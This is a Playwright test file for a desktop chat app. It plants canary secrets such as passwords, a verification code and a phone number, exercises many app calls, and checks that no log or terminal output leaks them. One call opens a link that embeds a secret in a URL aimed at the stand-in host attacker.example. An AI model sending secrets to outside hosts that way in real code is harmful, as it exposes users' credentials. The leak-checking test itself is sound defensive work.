import { Writable } from 'node:stream'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { pino } from 'pino'
import { closeDesktops } from '../support/desktop.ts'
import { PASSWORD, startTestGateway, type TestGateway } from '../support/gateway.ts'
import { Workstation } from '../support/workstation.ts'

let gateway: TestGateway
let told = ''

test.beforeEach(async () => {
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      told += chunk.toString()
      done()
    },
  })
  gateway = await startTestGateway({ log: pino({ level: 'debug' }, stream) })
})
// oxlint-disable-next-line no-empty-pattern -- Playwright reads the fixtures' names here
test.afterEach(async ({}, verdict) => {
  await closeDesktops(verdict)
  await gateway.stop()
})

test('[I15] after a busy run no log and no terminal holds a password, a token, a code or a word', async () => {
  const station = await Workstation.launch()
  const child = station.desktop.app.process()
  for (const stream of [child.stdout, child.stderr])
    stream?.on('data', (chunk: Buffer) => (told += chunk.toString()))
  const secrets = {
    password: PASSWORD,
    wrong: 'falsch-passwort-4711',
    message: '金丝雀canary9953',
    phone: '13800138642',
    draft: '草稿canary1177',
    code: '482915',
    buyer: '保密买家',
    file: '机密报价canary',
  }
  await station.join(gateway)
  await station.fillSignIn('demoshop:xiaohong', secrets.wrong)
  await station.button('app:signIn.submit').click()
  await expect(station.page.getByRole('alert').filter({ hasText: /./ }).first()).toBeVisible()
  await station.fillSignIn('demoshop:xiaohong')
  await station.button('app:signIn.submit').click()
  await station.working()
  const buyer = await gateway.buyer({ name: secrets.buyer })
  await buyer.say(`${secrets.message} 电话 ${secrets.phone}`)
  await station.open(secrets.buyer)
  await station.say(`${secrets.message} 收到`)
  await station.composer.fill(secrets.draft)
  const conversation = buyer.view?.conversation?.id ?? ''
  await station.page.evaluate(
    async ([id, s]) => {
      const call = window.xiaoer.call as unknown as (
        name: string,
        value: unknown,
      ) => Promise<unknown>
      await call('search.messages', { text: s.message, limit: 10 })
      await call('search.shop', { text: s.phone, limit: 10 })
      await call('files.upload', {
        name: `${s.file}.txt`,
        type: 'text/plain',
        bytes: new TextEncoder().encode(s.message),
      })
      await call('account.signIn', {
        gateway: null,
        name: 'demoshop',
        password: s.wrong,
        remember: false,
        code: s.code,
      })
      await call('chats.command', { type: 'whisper', conversation: id, text: s.message })
      await call('security.changePassword', { old: s.wrong, new: `${s.wrong}x` })
      await call('setup.joinShop', { code: `xiaoer:${s.message}` })
      await call('links.open', { url: `https://u:${s.message}@attacker.example` })
    },
    [conversation, secrets] as const,
  )
  const access = (await gateway.signIn('demoshop:xiaoming')).access
  await gateway.restart()
  await station.desktop.quit()
  const log = await readFile(join(station.desktop.userData, 'logs/desktop.log'), 'utf8')
  const all = `${told}\n${log}`
  expect(all.length).toBeGreaterThan(200)
  for (const [name, secret] of Object.entries({ ...secrets, access }))
    expect(all.includes(secret), `a log tells the ${name}`).toBe(false)
})
